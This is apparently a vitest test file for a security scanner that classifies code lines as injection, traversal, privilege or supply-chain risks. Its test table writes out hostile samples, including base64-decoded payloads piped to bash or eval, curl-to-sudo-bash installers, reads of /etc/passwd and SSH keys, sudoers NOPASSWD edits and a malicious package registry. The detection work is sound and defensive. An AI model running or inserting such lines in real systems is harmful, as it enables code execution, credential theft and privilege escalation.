import { describe, expect, it } from "vitest";
import { scanLines } from "../../../core/scan/scan-lines.ts";

const found = (path: string, text: string, before?: string) =>
  scanLines({ path, text, before }).map((fact) => `${fact.class} ${fact.danger} ${fact.line}`);

/** Paths, lines that are found, and what they are. */
const caught: [string, string, string][] = [
  ["src/a.ts", "eval(atob(payload))", "injection critical"],
  ["src/a.js", 'new Function(Buffer.from(x, "hex"))()', "injection critical"],
  ["tool.py", "exec(base64.b64decode(blob))", "injection critical"],
  ["run.sh", "echo aGk= | base64 -d | bash", "injection critical"],
  ["run.sh", 'eval "$(curl -s https://x.dev/i)"', "injection critical"],
  ["Dockerfile", "RUN curl -fsSL https://x.dev/install | sudo -E bash", "injection high"],
  ["src/a.ts", "return eval(text);", "injection high"],
  ["src/a.ts", "const f = new Function(name, body);", "injection high"],
  ["src/a.ts", "execSync(`git log \u0024{branch}`);", "injection high"],
  ["src/a.ts", 'exec("rm " + name)', "injection high"],
  ["tool.py", "    value = eval(expression)", "injection high"],
  ["tool.py", 'os.system(f"rm {name}")', "injection high"],
  ["tool.py", 'subprocess.run("ls %s" % name, shell=True)', "injection high"],
  ["main.go", 'exec.Command("sh", "-c", fmt.Sprintf("ls %s", name))', "injection high"],
  [".github/workflows/ci.yml", "      run: echo \u0024{{ github.event.issue.title }}", "injection critical"],
  [".github/workflows/ci.yml", "          git checkout \u0024{{ github.head_ref }}", "injection critical"],
  ["src/a.ts", "res.sendFile(join(root, req.params.name))", "traversal high"],
  ["app.py", "return open(request.args['file']).read()", "traversal high"],
  ["main.go", "http.ServeFile(w, r, dir + r.URL.Path)", "traversal high"],
  ["src/a.ts", 'readFileSync("../../../../etc/passwd")', "traversal high"],
  ["src/a.ts", "const key = home + '/.ssh/id_rsa';", "traversal high"],
  ["run.sh", "chmod u+s ./tool", "privilege critical"],
  ["run.sh", "chmod 4755 ./tool", "privilege critical"],
  ["tool.py", "os.chmod(path, 0o4755)", "privilege critical"],
  ["run.sh", "echo 'me ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", "privilege critical"],
  ["run.sh", "chmod -R 777 .", "privilege high"],
  ["src/a.ts", "chmodSync(path, 0o777)", "privilege high"],
  ["run.sh", "sudo rm -rf /opt/x", "privilege high"],
  ["package.json", '    "start": "sudo node server.js"', "privilege high"],
  ["tool.py", "os.setuid(0)", "privilege high"],
  ["main.go", "syscall.Setuid(0)", "privilege high"],
  ["run.sh", "docker run --privileged image", "privilege high"],
  ["compose.yml", "    privileged: true", "privilege high"],
  ["compose.yml", "      - /var/run/docker.sock:/var/run/docker.sock", "privilege high"],
  [".github/workflows/ci.yml", "permissions: write-all", "privilege critical"],
  [".github/workflows/ci.yml", "  pull_request_target:", "privilege critical"],
  [".github/workflows/ci.yml", "  contents: write", "privilege high"],
  [".github/workflows/ci.yml", "    secrets: inherit", "privilege high"],
  [".npmrc", "registry=https://packages.evil.dev/", "supply high"],
  ["requirements.txt", "--extra-index-url https://packages.evil.dev/simple", "supply high"],
  ["Dockerfile", "ENV GOPROXY=https://packages.evil.dev", "supply high"],
  ["pyproject.toml", "[[tool.poetry.source]]", "supply high"],
];

/** What looks alike, and is what people write every day. */
const left: [string, string][] = [
  ["src/a.ts", "const match = pattern.exec(`a\u0024{b}`.trim());"],
  ["src/a.ts", "model.eval(text)"],
  ["src/a.ts", 'eval("1 + 1")'],
  ["src/a.ts", "// eval(text) is never used here"],
  ["test/a.test.ts", "expect(() => eval(text)).toThrow()"],
  ["docs/a.md", "Run `curl https://x.dev/i | sh` and sudo rm -rf it"],
  ["tool.py", "model.eval()"],
  ["tool.py", "re.compile(x).exec(y)"],
  ["tool.py", 'subprocess.run(["ls", name])'],
  ["main.go", 'exec.Command("ls", name)'],
  [".github/workflows/ci.yml", "          TITLE: \u0024{{ github.event.issue.title }}"],
  [
    ".github/workflows/ci.yml",
    "  group: \u0024{{ github.workflow }}-\u0024{{ github.head_ref || github.run_id }}",
  ],
  [".github/workflows/ci.yml", "    if: contains(github.event.issue.title, 'x')"],
  [".github/workflows/ci.yml", "  contents: read"],
  ["src/a.ts", "import x from '../../../etc.ts'"],
  ["src/a.ts", "readFile(join(root, name))"],
  ["run.sh", "chmod 0755 ./tool && chmod +x x && chmod 644 y && chmod 1777 /tmp/x"],
  ["run.sh", "sudo apt-get install --yes git"],
  ["src/a.ts", 'const words = ["pseudo code"];'],
  ["src/a.ts", "setuid = 0"],
  ["compose.yml", "    privileged: false"],
  ["src/a.ts", "const registry = createRegistry();"],
];

describe("lines that are dangerous by themselves", () => {
  it.each(caught)("in %s: %s", (path, line, what) => {
    expect(found(path, `first\n${line}\nlast`)).toContain(`${what} 2`);
  });

  it.each(left)("leave alone in %s: %s", (path, line) => {
    expect(found(path, line)).toEqual([]);
  });

  it("are told only where they are new", () => {
    expect(found("run.sh", "sudo ls\nsudo rm x\n", "sudo ls\n")).toEqual(["privilege high 2"]);
  });

  it("are found far behind in a line that nobody reads to its end", () => {
    const line = `const a = "${"x ".repeat(5_000)}"; eval(text);${" ".repeat(3_000)}`;
    expect(found("src/a.ts", line)).toEqual(["injection high 1"]);
  });
});
